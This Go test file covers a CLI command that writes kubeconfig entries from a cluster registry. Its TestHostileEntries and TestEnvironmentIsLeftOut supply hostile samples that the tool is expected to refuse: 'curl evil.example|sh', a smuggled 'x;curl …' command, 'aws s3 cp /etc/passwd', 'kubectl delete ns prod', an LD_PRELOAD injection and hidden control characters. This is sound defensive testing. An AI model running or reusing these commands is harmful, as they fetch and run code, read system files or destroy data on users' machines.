package kubeconfig

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"math/big"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	apiruntime "k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/clusterregistry/operator/apis/clusterregistry/v1beta1"
	"github.com/clusterregistry/operator/cli/command"
	"github.com/clusterregistry/operator/cli/command/commandtest"
)

const (
	aksServer = "6dae42f8-4368-4678-94ff-3960e28e3630"
	someUUID  = "80faf920-1908-4b52-b5ef-a8e7bedfc67a"
)

func newCommand(env *commandtest.Env) *cobra.Command {
	b := &builder{env: env.Env, registry: func() (mark, error) { return mark{Registry: "https://hub.example"}, nil }}
	return b.command()
}

func execOf(command string, args ...string) v1beta1.Access {
	return v1beta1.Access{Name: "users", Audience: v1beta1.AudienceUser, Exec: &v1beta1.ExecAccess{APIVersion: execV1, Command: command, Args: args}}
}

func cluster(name, url string, access ...v1beta1.Access) *v1beta1.Cluster {
	return &v1beta1.Cluster{
		ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"name": name}},
		Spec:       v1beta1.ClusterSpec{Endpoints: []v1beta1.Endpoint{{Name: "main", URL: url}}, Access: access},
	}
}

// TestKnownPlugins expects that what clouds write into kubeconfigs is rebuilt.
func TestKnownPlugins(t *testing.T) {
	for want, access := range map[string]v1beta1.Access{
		"aws eks get-token --cluster-name=east --output=json --region=eu-central-1":                                                         execOf("aws", "--region", "eu-central-1", "eks", "get-token", "--cluster-name", "east", "--output", "json"),
		"aws eks get-token --cluster-name=east --role-arn=arn:aws:iam::123456789012:role/path/admin":                                        execOf("aws", "eks", "get-token", "--cluster-name=east", "--role-arn=arn:aws:iam::123456789012:role/path/admin"),
		"aws eks get-token --cluster-name=prod --output=json --region=eusc-de-east-1 --role-arn=arn:aws-eusc:iam::123456789012:role/admins": execOf("aws", "--region", "eusc-de-east-1", "eks", "get-token", "--cluster-name", "prod", "--output", "json", "--role", "arn:aws-eusc:iam::123456789012:role/admins"),
		"aws eks get-token --cluster-id=" + someUUID:                                                                                        execOf("aws", "eks", "get-token", "--cluster-id", someUUID),
		"gke-gcloud-auth-plugin": execOf("gke-gcloud-auth-plugin"),
		"kubelogin get-token --client-id=" + someUUID + " --environment=AzurePublicCloud --login=devicecode --server-id=" + aksServer + " --tenant-id=" + someUUID: execOf("kubelogin", "get-token", "--environment", "AzurePublicCloud", "--server-id", aksServer, "--client-id", someUUID, "--tenant-id", someUUID, "--login", "devicecode"),
		"kubectl oidc-login get-token --oidc-client-id=kube --oidc-extra-scope=email --oidc-extra-scope=groups --oidc-issuer-url=https://login.example/realms/x":   {Name: "users", Audience: v1beta1.AudienceUser, OIDC: &v1beta1.OIDCAccess{IssuerURL: "https://login.example/realms/x", ClientID: "kube", Scopes: []string{"email", "groups"}}},
	} {
		exec, note, err := login(access, nil)
		if err != nil || note != "" {
			t.Errorf("%s: %v, %q", want, err, note)
			continue
		}
		if got := strings.TrimSpace(exec.Command + " " + strings.Join(exec.Args, " ")); got != want || exec.InteractiveMode != clientcmdapi.IfAvailableExecInteractiveMode || exec.Env != nil {
			t.Errorf("got %+v, want %s", exec, want)
		}
	}
}

// TestInteractiveMode expects that what an entry says of asking the person is written,
// for a known plugin and for one that they allow, and shown where it is not the default.
func TestInteractiveMode(t *testing.T) {
	for _, command := range []string{"gke-gcloud-auth-plugin", "corp-login"} {
		for mode, want := range map[v1beta1.InteractiveMode]string{"": "IfAvailable", v1beta1.InteractiveIfAvailable: "IfAvailable", v1beta1.InteractiveNever: "Never", v1beta1.InteractiveAlways: "Always"} {
			access := execOf(command)
			access.Exec.InteractiveMode = mode
			env := commandtest.New(t, cluster("east", "https://e.example", access)).Typing("y\n")
			if text, code := env.Run(t, newCommand(env), "east", "--allow-exec=corp-login"); code != 0 || !strings.Contains(env.Stdout.String(), "interactiveMode: "+want+"\n") {
				t.Errorf("%s, %q: %d, %s\n%s", command, mode, code, text, env.Stdout)
			}
			if shown := strings.Contains(env.Stderr.String(), "may ask you"); shown != (want != "IfAvailable") {
				t.Errorf("%s, %q: it is shown: %t\n%s", command, mode, shown, env.Stderr)
			}
		}
	}
}

// TestHostileEntries has an entry for each way to have something run or read on the
// computers of those who use a registry, and expects that none gets through.
func TestHostileEntries(t *testing.T) {
	oidc := func(issuer, client string, scopes ...string) v1beta1.Access {
		return v1beta1.Access{Name: "users", Audience: v1beta1.AudienceUser, OIDC: &v1beta1.OIDCAccess{IssuerURL: issuer, ClientID: client, Scopes: scopes}}
	}
	for _, test := range []struct {
		reason  string
		cluster *v1beta1.Cluster
		text    string
	}{
		{"any program", cluster("east", "https://e.example", execOf("sh", "-c", "curl evil.example|sh")), `it would run sh -c "curl evil.example|sh", which is not a known plugin; if you trust it, use --allow-exec=sh`},
		{"a known name at a path", cluster("east", "https://e.example", execOf("/tmp/aws", "eks", "get-token", "--cluster-name=x")), `it would run /tmp/aws eks get-token --cluster-name=x, a path of another computer: have the entry name aws alone, which is found in $PATH`},
		{"a known name at a path of Windows", cluster("east", "https://e.example", execOf(`C:\gcloud\gke-gcloud-auth-plugin.exe`)), `a path of another computer: have the entry name gke-gcloud-auth-plugin alone`},
		{"an unknown name at a path", cluster("east", "https://e.example", execOf("/tmp/login")), `it would run /tmp/login, which is not a known plugin; if you trust it, use --allow-exec=/tmp/login`},
		{"a known name in the directory of the kubeconfig", cluster("east", "https://e.example", execOf("./aws")), `a path of another computer`},
		{"a role that is there twice", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=x", "--role=arn:aws:iam::123456789012:role/a", "--role-arn=arn:aws:iam::123456789012:role/b")), `the flag --role-arn of aws is there twice`},
		{"a known name with another case", cluster("east", "https://e.example", execOf("AWS", "eks", "get-token")), `which is not a known plugin`},
		{"a command for the shell of who allows it", cluster("east", "https://e.example", execOf("x;curl evil.example|sh")), `it would run "x;curl evil.example|sh", which is not a known plugin` + "\n"},
		{"a command that is a flag", cluster("east", "https://e.example", execOf("--merge=x")), `it would run --merge=x, which is not a known plugin` + "\n"},
		{"two arguments that look like one", cluster("east", "https://e.example", execOf("corp", "--to east", "\u0435ast")), `it would run corp "--to east" "\u0435ast", which`},
		{"another subcommand", cluster("east", "https://e.example", execOf("aws", "s3", "cp", "/etc/passwd")), `aws is run as "aws eks get-token", and not with "s3 cp /etc/passwd"`},
		{"a further subcommand", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "delete", "--cluster-name=x")), `and not with "eks get-token delete"`},
		{"kubectl itself", cluster("east", "https://e.example", execOf("kubectl", "delete", "ns", "prod")), `kubectl is run as "kubectl oidc-login get-token", and not with "delete ns prod"`},
		{"a free flag", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=x", "--endpoint-url=https://evil.example")), `aws is not run with the flag "--endpoint-url"`},
		{"a flag that names a local profile", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=x", "--profile=root")), `aws is not run with the flag "--profile"`},
		{"a flag that turns verification off", cluster("east", "https://e.example", execOf("kubectl", "oidc-login", "get-token", "--insecure-skip-tls-verify=true")), `kubectl is not run with the flag "--insecure-skip-tls-verify"`},
		{"a flag that names a program", cluster("east", "https://e.example", execOf("kubectl", "oidc-login", "get-token", "--browser-command=/tmp/x")), `kubectl is not run with the flag "--browser-command"`},
		{"a short flag", cluster("east", "https://e.example", execOf("kubelogin", "get-token", "-l", "devicecode")), `and not with "get-token -l devicecode"`},
		{"a flag as a value", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name", "--debug")), `the flag "--cluster-name" of aws does not take "--debug"`},
		{"a value with more than one line", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=x\n--debug")), `its command has control characters`},
		{"a file as a value", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=file:///etc/passwd")), `does not take "file:///etc/passwd"`},
		{"a flag without its value", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name")), `the flag "--cluster-name" of aws has no value`},
		{"a flag that is there twice", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=a", "--cluster-name=b")), `the flag --cluster-name of aws is there twice`},
		{"no cluster", cluster("east", "https://e.example", execOf("aws", "eks", "get-token")), `aws is not run without --cluster-name`},
		{"a token for another application", cluster("east", "https://e.example", execOf("kubelogin", "get-token", "--server-id", someUUID)), `the flag "--server-id" of kubelogin does not take`},
		{"an issuer without TLS", cluster("east", "https://e.example", execOf("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=http://evil.example", "--oidc-client-id=x")), `does not take "http://evil.example"`},
		{"a client that is a flag", cluster("east", "https://e.example", oidc("https://login.example", "--exec=x")), `the flag "--oidc-client-id" of kubectl does not take "--exec=x"`},
		{"a scope that is a flag", cluster("east", "https://e.example", oidc("https://login.example", "x", "--exec")), `does not take "--exec"`},
		{"an escape sequence in a command", cluster("east", "https://e.example", execOf("aws\x1b[8m", "x")), `its command has control characters: "aws[8m"`},
		{"text from right to left", cluster("east", "https://e.example", execOf("aws", "\u202eeks")), `its command has control characters`},
		{"a mode that is none", func() *v1beta1.Cluster {
			out := cluster("east", "https://e.example", execOf("gke-gcloud-auth-plugin"))
			out.Spec.Access[0].Exec.InteractiveMode = "Always\x1b[8m"
			return out
		}(), `spec.access[0].exec.interactiveMode: Unsupported value`},
		{"a server without TLS", cluster("east", "http://e.example"), `must be an https URL`},
		{"a server with a password", cluster("east", "https://ann:geheim@e.example"), `must not contain a user or password`},
		{"a name that leaves the file", cluster("../east", "https://e.example"), `is not valid: [metadata.name`},
		{"a CA with a private key", func() *v1beta1.Cluster {
			out := cluster("east", "https://e.example")
			out.Spec.Endpoints[0].CABundle = []byte("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
			return out
		}(), `caBundle`},
		{"an endpoint with a letter that no one sees", cluster("east", "https://e.example/\u200bx"), `its endpoint has control characters: "https://e.example/x"`},
		{"no endpoint for the client", func() *v1beta1.Cluster {
			out := cluster("east", "https://e.example")
			out.Spec.Endpoints[0].ClientCIDRs = []string{"10.0.0.0/8"}
			return out
		}(), `it has no endpoint for your address: say with --for which address you reach clusters from`},
	} {
		env, path := commandtest.New(t, test.cluster), filepath.Join(t.TempDir(), "config")
		text, code := env.Run(t, newCommand(env), "--all", "--merge="+path)
		if code != 4 || text != "1 refused, see above; the others are done" || !strings.Contains(env.Stderr.String(), test.text) || strings.ContainsAny(env.Stderr.String(), "\x1b\u202e") {
			t.Errorf("%s: exit code %d, %q\n%s", test.reason, code, text, env.Stderr)
		}
		config, err := load(path)
		if err != nil || len(config.Clusters)+len(config.AuthInfos)+len(config.Contexts) > 0 {
			t.Errorf("%s: the kubeconfig has %+v, %v", test.reason, config, err)
		}
	}
}

// TestLongCommandLine expects that no one is asked to agree to more than they read.
func TestLongCommandLine(t *testing.T) {
	env := commandtest.New(t, cluster("east", "https://e.example", execOf("corp-login", strings.Repeat("x ", maxCommandLine/2))))
	if _, code := env.Run(t, newCommand(env), "east", "--allow-exec=corp-login"); code != 4 || !strings.Contains(env.Stderr.String(), "its command line has 2061 bytes, more than a person checks (2048)") {
		t.Errorf("%d\n%s", code, env.Stderr)
	}
}

// TestAllowedCommands expects that a comma does not make two commands of one.
func TestAllowedCommands(t *testing.T) {
	env := commandtest.New(t, cluster("east", "https://e.example", execOf("sh")))
	if _, code := env.Run(t, newCommand(env), "east", "--allow-exec=corp-login,sh"); code != 4 || !strings.Contains(env.Stderr.String(), "it would run sh, which is not a known plugin") {
		t.Errorf("%d\n%s", code, env.Stderr)
	}
}

// TestEnvironmentIsLeftOut expects that no variable of an entry is set, be it for a
// known plugin or for one that a person allows.
func TestEnvironmentIsLeftOut(t *testing.T) {
	for _, command := range []string{"gke-gcloud-auth-plugin", "corp-login"} {
		access := execOf(command)
		access.Exec.Env = []v1beta1.ExecEnvVar{{Name: "LD_PRELOAD", Value: "/tmp/evil.so"}}
		env := commandtest.New(t, cluster("east", "https://e.example", access)).Typing("y\n")
		if text, code := env.Run(t, newCommand(env), "east", "--allow-exec=corp-login"); code != 0 {
			t.Fatal(text)
		}
		if strings.Contains(env.Stdout.String(), "LD_PRELOAD") || !strings.Contains(env.Stdout.String(), "command: "+command) {
			t.Errorf("%s: it prints\n%s", command, env.Stdout)
		}
		if !strings.Contains(env.Stderr.String(), `its access "users" sets environment variables, which are left out: set your own with "kubectl config set-credentials east --exec-env=VARIABLE=VALUE"`) {
			t.Errorf("%s: it says\n%s", command, env.Stderr)
		}
	}
}

var shownDigest = regexp.MustCompile(`sha256:[0-9a-f]{64}`)

// TestConfirmation expects that the first use and each change is shown and confirmed.
func TestConfirmation(t *testing.T) {
	before := cluster("east", "https://e.example", execOf("corp-login", "--to", "east"))
	path := filepath.Join(t.TempDir(), "config")
	args := []string{"--all", "--merge=" + path, "--allow-exec=corp-login"}
	run := func(c *v1beta1.Cluster, typed string, more ...string) (*commandtest.Env, string, int) {
		t.Helper()
		env := commandtest.New(t, c)
		if typed != "" {
			env.Typing(typed)
		}
		text, code := env.Run(t, newCommand(env), append(args, more...)...)
		return env, text, code
	}
	written := func() string {
		content, err := os.ReadFile(path)
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		return string(content)
	}

	env, text, code := run(before, "")
	if code != 3 || !strings.Contains(text, "--accept=sha256:") || written() != "" {
		t.Fatalf("without a terminal: %d, %s", code, text)
	}
	for _, shown := range []string{"+ east (new)", "server: https://e.example\n", "CA: this computer's own authorities\n", "proxy: none\n", "runs: corp-login --to east\n"} {
		if !strings.Contains(env.Stderr.String(), shown) {
			t.Errorf("%q is not shown:\n%s", shown, env.Stderr)
		}
	}
	accepted := shownDigest.FindString(text)
	if _, text, code := run(before, "n\n"); code != 3 || text != "not confirmed: nothing was changed" || written() != "" {
		t.Errorf("a person who doesn't agree: %d, %s", code, text)
	}
	if env, _, code := run(before, "", "--dry-run=client"); code != 0 || shownDigest.FindString(env.Stderr.String()) != accepted || written() != "" {
		t.Errorf("a dry run: %d, %s", code, env.Stderr)
	}
	// What was accepted is exactly what was shown.
	other := cluster("east", "https://evil.example", execOf("corp-login", "--to", "east"))
	if _, text, code := run(other, "", "--accept="+accepted); code != 3 || !strings.Contains(text, "and --accept has "+accepted) || written() != "" {
		t.Errorf("the digest of something else: %d, %s", code, text)
	}
	if _, text, code := run(before, "", "--accept="+accepted); code != 0 || !strings.Contains(written(), "server: https://e.example") {
		t.Errorf("the digest: %d, %s", code, text)
	}
	if env, text, code := run(before, "", "--accept="+accepted); code != 0 || !strings.Contains(env.Stdout.String(), "0 new or changed, 1 unchanged, 0 removed") {
		t.Errorf("the digest again: %d, %s, %s", code, text, env.Stdout)
	}
	if env, text, code := run(before, ""); code != 0 || !strings.Contains(env.Stdout.String(), "0 new or changed, 1 unchanged, 0 removed") {
		t.Errorf("again: %d, %s, %s", code, text, env.Stdout)
	}
	// A file that was written by hand may not say the default.
	said := before.DeepCopy()
	said.Spec.Access[0].Exec.InteractiveMode = v1beta1.InteractiveIfAvailable
	if env, text, code := run(said, ""); code != 0 || !strings.Contains(env.Stdout.String(), "0 new or changed, 1 unchanged, 0 removed") {
		t.Errorf("the default as a value: %d, %s, %s", code, text, env.Stdout)
	}
	kept := written()
	for name, change := range map[string]func(*v1beta1.Cluster){
		"server: https://e.example -> https://evil.example":                                              func(c *v1beta1.Cluster) { c.Spec.Endpoints[0].URL = "https://evil.example" },
		"proxy: none -> http://evil.example:3128":                                                        func(c *v1beta1.Cluster) { c.Spec.Endpoints[0].ProxyURL = "http://evil.example:3128" },
		"certificate for: the server's host -> evil.example":                                             func(c *v1beta1.Cluster) { c.Spec.Endpoints[0].TLSServerName = "evil.example" },
		"runs: corp-login --to east -> corp-login --to evil":                                             func(c *v1beta1.Cluster) { c.Spec.Access[0].Exec.Args[1] = "evil" },
		"runs: corp-login --to east -> gke-gcloud-auth-plugin":                                           func(c *v1beta1.Cluster) { c.Spec.Access[0] = execOf("gke-gcloud-auth-plugin") },
		"runs: corp-login --to east -> nothing":                                                          func(c *v1beta1.Cluster) { c.Spec.Access = nil },
		`runs: corp-login --to east -> corp-login "--to east"`:                                           func(c *v1beta1.Cluster) { c.Spec.Access[0].Exec.Args = []string{"--to east"} },
		"version of its answer: " + execV1 + " -> " + execV1beta1:                                        func(c *v1beta1.Cluster) { c.Spec.Access[0].Exec.APIVersion = execV1beta1 },
		"tells it server and CA: no -> yes":                                                              func(c *v1beta1.Cluster) { c.Spec.Access[0].Exec.ProvideClusterInfo = true },
		"may ask you: where there is a terminal -> never":                                                func(c *v1beta1.Cluster) { c.Spec.Access[0].Exec.InteractiveMode = v1beta1.InteractiveNever },
		"may ask you: where there is a terminal -> always, and it is not run where there is no terminal": func(c *v1beta1.Cluster) { c.Spec.Access[0].Exec.InteractiveMode = v1beta1.InteractiveAlways },
		"CA: this computer's own authorities -> sha256 ":                                                 func(c *v1beta1.Cluster) { c.Spec.Endpoints[0].CABundle = certificate(t) },
	} {
		changed := before.DeepCopy()
		change(changed)
		env, text, code := run(changed, "")
		if code != 3 || !strings.Contains(env.Stderr.String(), "~ east (CHANGED)") || !strings.Contains(env.Stderr.String(), name) || written() != kept {
			t.Errorf("%s: %d, %s\n%s", name, code, text, env.Stderr)
		}
	}
}

// certificate returns a CA.
func certificate(t *testing.T) []byte {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test"}, NotAfter: commandtest.Now.AddDate(1, 0, 0), IsCA: true, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

const foreign = `apiVersion: v1
kind: Config
current-context: mine
clusters:
- name: mine
  cluster: {server: "https://mine.example", certificate-authority: relative/ca.crt}
- name: west
  cluster: {server: "https://west.mine.example"}
contexts:
- name: mine
  context: {cluster: mine, user: me, namespace: work}
users:
- name: me
  user: {token: geheim}
`

// TestMerge expects that what is not ours stays, names that others have are not
// taken, and only a complete list of the same scope removes anything.
func TestMerge(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "config")
	if err := os.WriteFile(path, []byte(foreign), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link")
	if err := os.Symlink(path, link); err != nil {
		t.Fatal(err)
	}
	run := func(clusters []*v1beta1.Cluster, wantCode int, args ...string) *commandtest.Env {
		t.Helper()
		var objects []apiruntime.Object
		for _, c := range clusters {
			objects = append(objects, c)
		}
		env := commandtest.New(t, objects...).Typing("yes\n")
		if text, code := env.Run(t, newCommand(env), append(args, "--merge="+link)...); code != wantCode {
			t.Fatalf("exit code %d, %s\n%s", code, text, env.Stderr)
		}
		return env
	}
	contexts := func() string {
		t.Helper()
		config, err := clientcmd.LoadFromFile(path)
		if err != nil {
			t.Fatal(err)
		}
		mine := config.Contexts["mine"]
		if config.CurrentContext != "mine" || mine == nil || mine.Namespace != "work" || config.AuthInfos["me"].Token != "geheim" || config.Clusters["west"].Server != "https://west.mine.example" || config.Clusters["mine"].CertificateAuthority != "relative/ca.crt" {
			t.Errorf("what is not ours is now %+v", config)
		}
		var names []string
		for name := range config.Contexts {
			if name != "mine" {
				names = append(names, name)
			}
		}
		slices.Sort(names)
		return strings.Join(names, " ")
	}
	east, west, north := cluster("east", "https://e.example"), cluster("west", "https://w.example"), cluster("north", "https://n.example")

	if err := os.WriteFile(link+".lock", nil, 0o600); err != nil { // as "kubectl config" locks it
		t.Fatal(err)
	}
	dry := run([]*v1beta1.Cluster{north}, 0, "--all", "--dry-run=client")
	b := &builder{env: commandtest.New(t, north).Env, all: true, merge: link, dryRun: "none", accept: shownDigest.FindString(dry.Stderr.String()), registry: func() (mark, error) { return mark{Registry: "https://hub.example"}, nil }}
	impatient, stop := context.WithCancel(t.Context())
	stop()
	if err := b.run(impatient); err == nil || !strings.HasSuffix(err.Error(), "remove "+link+".lock") {
		t.Errorf("a lock of the link: %v", err)
	}
	if err := os.Remove(link + ".lock"); err != nil {
		t.Fatal(err)
	}
	env := run([]*v1beta1.Cluster{east, west, north}, 4, "--all")
	if got := contexts(); got != "east north" || !strings.Contains(env.Stderr.String(), `! west refused: the kubeconfig has a cluster "west" of another origin, which stays`) {
		t.Errorf("all: %s\n%s", got, env.Stderr)
	}
	if info, err := os.Stat(path); err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
		t.Errorf("the file has %v, %v", info.Mode(), err)
	}
	if info, err := os.Lstat(link); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the link is one no longer: %v, %v", info, err)
	}
	run([]*v1beta1.Cluster{east, west, north}, 0, "west", "--prefix=fleet-")
	if got := contexts(); got != "east fleet-west north" {
		t.Errorf("with a prefix: %s", got)
	}
	run([]*v1beta1.Cluster{east}, 0, "-l", "name=east")
	if got := contexts(); got != "east fleet-west north" {
		t.Errorf("another scope has pruned: %s", got)
	}
	// The registry has lost north, which the scope --all had, and west, which it had not.
	run([]*v1beta1.Cluster{east}, 0, "--all")
	if got := contexts(); got != "east fleet-west" {
		t.Errorf("pruned: %s", got)
	}
	// A cluster that is refused is still in the registry.
	hostile := east.DeepCopy()
	hostile.Spec.Access = []v1beta1.Access{execOf("sh")}
	run([]*v1beta1.Cluster{hostile}, 4, "--all")
	if got := contexts(); got != "east fleet-west" {
		t.Errorf("refused: %s", got)
	}
	leftovers, err := filepath.Glob(filepath.Join(dir, ".*"))
	locks, err2 := filepath.Glob(filepath.Join(dir, "*.lock"))
	if err != nil || err2 != nil || len(leftovers)+len(locks) > 0 {
		t.Errorf("it leaves %v %v", leftovers, locks)
	}
}

// TestOtherRegistry expects that two registries with a cluster of the same name don't
// take it from each other.
func TestOtherRegistry(t *testing.T) {
	path := filepath.Join(t.TempDir(), "config")
	env := commandtest.New(t, cluster("east", "https://e.example")).Typing("y\n")
	if text, code := env.Run(t, newCommand(env), "--all", "--merge="+path); code != 0 {
		t.Fatal(text)
	}
	env = commandtest.New(t).Typing("y\n")
	b := &builder{env: env.Env, registry: func() (mark, error) { return mark{Registry: "https://other.example"}, nil }}
	if text, code := env.Run(t, b.command(), "--all", "--merge="+path); code != 0 {
		t.Fatal(text)
	}
	if config, err := load(path); err != nil || config.Contexts["east"] == nil {
		t.Errorf("the other registry has pruned it: %v", err)
	}
	env = commandtest.New(t, cluster("east", "https://evil.example")).Typing("y\n")
	b = &builder{env: env.Env, registry: func() (mark, error) { return mark{Registry: "https://other.example"}, nil }}
	if _, code := env.Run(t, b.command(), "--all", "--merge="+path); code != 4 || !strings.Contains(env.Stderr.String(), `of the registry https://hub.example, which stays`) {
		t.Errorf("exit code %d\n%s", code, env.Stderr)
	}
}

// TestOwnUser expects that what a person has set for an entry without access stays.
func TestOwnUser(t *testing.T) {
	config := clientcmdapi.NewConfig()
	origin := mark{Registry: "https://hub.example", Scope: "all"}
	wanted := []entry{{Name: "east", cluster: "east", Server: "https://e.example"}}
	if err := makePlan(config, nil, wanted, nil, origin, true).apply(config, origin); err != nil {
		t.Fatal(err)
	}
	config.Contexts["east"].AuthInfo, config.Contexts["east"].Namespace = "me", "work"
	config.AuthInfos["me"] = &clientcmdapi.AuthInfo{Token: "geheim"}
	content, err := clientcmd.Write(*config) // as it comes from a file
	if err != nil {
		t.Fatal(err)
	}
	if config, err = clientcmd.Load(content); err != nil {
		t.Fatal(err)
	}
	plan := makePlan(config, nil, wanted, nil, origin, true)
	if err := plan.apply(config, origin); err != nil || len(plan.same) != 1 || config.Contexts["east"].AuthInfo != "me" || config.Contexts["east"].Namespace != "work" || config.AuthInfos["me"].Token != "geheim" {
		t.Errorf("the context is %+v, %v", config.Contexts["east"], err)
	}
}

// TestOwnUserOfAProgram expects that a user whom a person has set for the context of an entry
// with a program is not taken away unasked, when nothing else of the entry has changed.
func TestOwnUserOfAProgram(t *testing.T) {
	config, origin := clientcmdapi.NewConfig(), mark{Registry: "https://hub.example", Scope: "all"}
	wanted := []entry{{Name: "east", cluster: "east", Server: "https://e.example", APIVersion: execV1, Command: "corp-login", Interactive: "IfAvailable"}}
	if err := makePlan(config, nil, wanted, nil, origin, true).apply(config, origin); err != nil {
		t.Fatal(err)
	}
	if p := makePlan(config, nil, wanted, nil, origin, true); p.asks() {
		t.Fatalf("it asks although nothing has changed: %+v", p)
	}
	config.Contexts["east"].AuthInfo = "me"
	config.AuthInfos["me"] = &clientcmdapi.AuthInfo{Token: "geheim"}
	p, shown := makePlan(config, nil, wanted, nil, origin, true), &strings.Builder{}
	p.show(shown)
	if !p.asks() || !strings.Contains(shown.String(), `no longer as your user "me"`) {
		t.Errorf("it asks: %t, and shows %q", p.asks(), shown)
	}
}

// TestActingAs expects that as whom a person acts in a cluster stays their choice, and
// so do the variables that they have set for its program.
func TestActingAs(t *testing.T) {
	config := clientcmdapi.NewConfig()
	origin := mark{Registry: "https://hub.example", Scope: "all"}
	wanted := []entry{{Name: "east", cluster: "east", Server: "https://e.example", APIVersion: execV1, Command: "corp-login"}}
	for range 2 {
		if err := makePlan(config, nil, wanted, nil, origin, true).apply(config, origin); err != nil {
			t.Fatal(err)
		}
		config.AuthInfos["east"].Impersonate = "auditor"
		config.AuthInfos["east"].Exec.Env = []clientcmdapi.ExecEnvVar{{Name: "AWS_PROFILE", Value: "work"}}
		wanted[0].Server = "https://new.example"
	}
	if err := makePlan(config, nil, wanted, nil, origin, true).apply(config, origin); err != nil || config.AuthInfos["east"].Impersonate != "auditor" || len(config.AuthInfos["east"].Exec.Env) != 1 {
		t.Errorf("the user is %+v, %v", config.AuthInfos["east"], err)
	}
	if same := makePlan(config, nil, wanted, nil, origin, true); len(same.changes) != 0 {
		t.Errorf("what a person has set is a change of the entry: %+v", same.changes)
	}
	wanted[0].Command = "other-login"
	if err := makePlan(config, nil, wanted, nil, origin, true).apply(config, origin); err != nil || config.AuthInfos["east"].Exec.Env != nil {
		t.Errorf("another program gets the variables: %+v, %v", config.AuthInfos["east"].Exec, err)
	}
}

// TestAllowedPlugin expects a note where a known plugin's program is set free.
func TestAllowedPlugin(t *testing.T) {
	env := commandtest.New(t, cluster("east", "https://e.example", execOf("kubectl", "version")))
	if _, code := env.Run(t, newCommand(env), "--all", "--allow-exec=kubectl", "--dry-run=client"); code != 0 || !strings.Contains(env.Stderr.String(), "note: --allow-exec=kubectl lets entries run kubectl with any arguments") {
		t.Errorf("%d\n%s", code, env.Stderr)
	}
}

func TestCommandLine(t *testing.T) {
	locked := filepath.Join(t.TempDir(), "locked")
	broken := filepath.Join(t.TempDir(), "broken")
	for path, content := range map[string]string{locked + ".lock": "", broken: "{"} {
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, test := range []struct {
		args, text string
		code       int
	}{
		{"", "choose clusters by name, with --selector or with --all, and in one way only", 2},
		{"east --all", "choose clusters by name, with --selector or with --all, and in one way only", 2},
		{"--all --dry-run=", "--dry-run=: use none or client", 2},
		{"--all --dry-run=server", "--dry-run=server: use none or client", 2},
		{"east --for=10.0.0", "--for=10.0.0 is not an IP address: name the one that you reach clusters from, such as 10.1.2.3", 2},
		{"east --merge=", `--merge= names no file: leave out the = for that which "kubectl config" writes`, 2},
		{"--merge ./fleet.kubeconfig", "./fleet.kubeconfig is taken for the name of a cluster: to merge into a file of this name, write --merge=./fleet.kubeconfig", 2},
		{"--merge fleet", `read the cluster fleet: clusters.clusterregistry.k8s.io "fleet" not found; if that is the file to merge into, write --merge=fleet`, 1},
		{"west", `read the cluster west: clusters.clusterregistry.k8s.io "west" not found`, 1},
		{"east --merge=" + broken, "the file " + broken + " is not a valid kubeconfig: ", 1},
	} {
		env := commandtest.New(t, cluster("east", "https://e.example"))
		if text, code := env.Run(t, newCommand(env), strings.Fields(test.args)...); code != test.code || !strings.HasPrefix(text, test.text) {
			t.Errorf("%q: %d, %s", test.args, code, text)
		}
	}
	ctx, stop := context.WithCancel(t.Context())
	stop()
	other := filepath.Join(t.TempDir(), "other")
	if _, err := lock(ctx, other, locked); err == nil {
		t.Error("the file behind a link is locked by someone else, and is written")
	}
	if _, err := os.Stat(other + ".lock"); !os.IsNotExist(err) {
		t.Errorf("a lock is left: %v", err)
	}
	if _, err := lock(ctx, locked); err == nil || err.Error() != "the kubeconfig is locked by another program: when none writes it, remove "+locked+".lock" {
		t.Errorf("a lock: %v", err)
	}
}

// TestLongestRange expects the endpoint for the client's address.
func TestLongestRange(t *testing.T) {
	c := cluster("east", "https://outside.example")
	c.Spec.Endpoints = append(c.Spec.Endpoints, v1beta1.Endpoint{Name: "inside", URL: "https://inside.example", ClientCIDRs: []string{"10.1.0.0/16"}})
	env := commandtest.New(t, c).Typing("y\n")
	if text, code := env.Run(t, newCommand(env), "east", "--for=10.1.2.3"); code != 0 || !strings.Contains(env.Stdout.String(), "server: https://inside.example") {
		t.Errorf("%d, %s\n%s", code, text, env.Stdout)
	}
	if command.ExitAttention != 4 {
		t.Error("scripts rely on the exit codes")
	}
}
